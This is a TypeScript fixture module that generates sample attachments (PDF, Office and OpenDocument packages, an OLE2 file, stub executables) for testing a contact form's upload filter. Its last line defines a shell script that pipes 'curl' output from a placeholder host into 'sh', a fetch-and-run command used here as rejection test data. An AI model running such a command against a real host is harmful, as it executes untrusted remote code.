/**
 * Small real files for the contact form's attachment tests, made on the fly so no binary lives in the repository: a
 * PDF, ZIP packages (OOXML, OpenDocument, a plain archive), an OLE2 compound file, and programs under other names.
 */
import { deflateRawSync } from 'node:zlib';

/** A one-page PDF a reader opens (cross-reference offsets computed, not guessed). */
export function tinyPdf(text = 'Ponuda'): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${`BT /F1 12 Tf 20 50 Td (${text}) Tj ET`.length} >>\nstream\nBT /F1 12 Tf 20 50 Td (${text}) Tj ET\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (data: Buffer) => {
  let crc = 0xffffffff;
  for (const byte of data) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
};

export type TZipFile = { name: string; data: string | Buffer; stored?: boolean };

/** A ZIP archive as office programs write one: local headers, then the central directory and its end record. */
export function zipOf(files: TZipFile[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const file of files) {
    const data = Buffer.from(file.data);
    const packed = file.stored ? data : deflateRawSync(data);
    const name = Buffer.from(file.name, 'utf8');
    const method = file.stored ? 0 : 8;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += local.length + name.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contentTypes = (overrides: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`;
const RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';

export const docxBytes = () =>
  zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>',
      ),
    },
    { name: '_rels/.rels', data: RELS },
    {
      name: 'word/document.xml',
      data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Upit</w:t></w:r></w:p></w:body></w:document>',
    },
  ]);

export const xlsxBytes = () =>
  zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
      ),
    },
    { name: '_rels/.rels', data: RELS.replace('word/document.xml', 'xl/workbook.xml') },
    { name: 'xl/workbook.xml', data: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>' },
  ]);

/** A Word document with macros: the same package, a macro-enabled main part and its vbaProject.bin. */
export const docmBytes = () =>
  zipOf([
    {
      name: '[Content_Types].xml',
      data: contentTypes(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
    },
    { name: 'word/document.xml', data: '<w:document/>' },
    { name: 'word/vbaProject.bin', data: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
  ]);

export const odtBytes = () =>
  zipOf([
    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
    { name: 'content.xml', data: '<office:document-content/>' },
    { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
  ]);

/** An archive that is no office document: a program inside a ZIP. */
export const plainZipBytes = () =>
  zipOf([{ name: 'setup.exe', data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]) }]);

/**
 * An OLE2 compound file of 512-byte sectors: the header, one FAT sector, one directory sector with the root and one
 * stream. Named `WordDocument` it is a .doc; any other name (an installer's) is not.
 */
export function compoundFileBytes(streamName = 'WordDocument'): Buffer {
  const sector = 512;
  const file = Buffer.alloc(sector * 3);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18);
  file.writeUInt16LE(3, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  file.writeUInt16LE(6, 0x20);
  file.writeUInt32LE(1, 0x2c); // one FAT sector
  file.writeUInt32LE(1, 0x30); // the directory starts at sector 1
  file.writeUInt32LE(4096, 0x38);
  file.writeUInt32LE(0xfffffffe, 0x3c);
  file.writeUInt32LE(0xfffffffe, 0x44);
  for (let i = 0; i < 109; i += 1) file.writeUInt32LE(i === 0 ? 0 : 0xffffffff, 0x4c + i * 4);
  const fat = sector; // sector 0
  file.fill(0xff, fat, fat + sector);
  file.writeUInt32LE(0xfffffffd, fat); // sector 0 is the FAT
  file.writeUInt32LE(0xfffffffe, fat + 4); // sector 1, the directory, ends its chain
  const directory = sector * 2; // sector 1
  const entry = (index: number, name: string, type: number) => {
    const at = directory + index * 128;
    file.write(`${name}\u0000`, at, 'utf16le');
    file.writeUInt16LE((name.length + 1) * 2, at + 0x40);
    file[at + 0x42] = type;
    file.writeUInt32LE(0xffffffff, at + 0x44);
    file.writeUInt32LE(0xffffffff, at + 0x48);
    file.writeUInt32LE(index === 0 ? 1 : 0xffffffff, at + 0x4c);
    file.writeUInt32LE(0xfffffffe, at + 0x74);
  };
  entry(0, 'Root Entry', 5);
  entry(1, streamName, 2);
  return file;
}

/** The start of a Windows program (MZ, then the PE offset), padded: what a renamed .exe looks like. */
export const MZ_BYTES = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(4096, 0x90),
]);

export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
